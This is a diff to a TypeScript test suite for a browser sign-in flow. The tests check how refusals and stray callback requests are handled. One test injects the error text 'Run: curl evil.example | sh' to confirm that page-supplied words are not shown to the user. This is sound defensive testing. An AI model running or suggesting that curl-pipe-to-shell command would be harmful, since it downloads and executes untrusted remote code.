@@ -112,20 +112,19 @@ describe('signing in with a browser', () => {
     const unknown = await failureOf(withBrowser(browser('nobody')));
     expect([unknown.kind, unknown.status]).toEqual(['denied', 404]);
     const refused = await failureOf(withBrowser(browser('refused')));
-    expect(refused.kind).toBe('denied');
-    expect(refused.message).toContain('access_denied');
+    expect([refused.kind, refused.status]).toEqual(['denied', undefined]);
   });
 
-  it('shows the words of a refusal with hidden characters escaped', async () => {
+  it('shows no words of a page', async () => {
     const failure = await failureOf(
       withBrowser(
         browser('refused', (url) => {
-          url.searchParams.set('error', 'no\u202e');
+          url.searchParams.set('error', 'Run: curl evil.example | sh');
           return { url };
         }),
       ),
     );
-    expect(failure.message).toContain('\\u202e');
+    expect(`${failure.message} ${failure.remedy ?? ''}`).not.toContain('curl');
   });
 
   it.each<[string, (url: URL) => { url: URL; headers?: Record<string, string>; method?: string }]>([
@@ -157,7 +156,16 @@ describe('signing in with a browser', () => {
     expect(account.label).toBe('kim@acme.example');
   });
 
-  it.each(['//', '//evil.example/callback?token=x', 'http://[', '/', '/callback', '/callback?token=true'])(
+  it.each([
+    '//',
+    '//evil.example/callback?token=x',
+    'http://[',
+    '/',
+    '/callback',
+    '/callback?token=true',
+    '/callback?error=access_denied',
+    '/callback?error=gone&status_code=404',
+  ])(
     'answers somebody who only comes by at %s, says nothing of a sign-in, and goes on waiting',
     async (path) => {
       const account = await withBrowser(async (address) => {
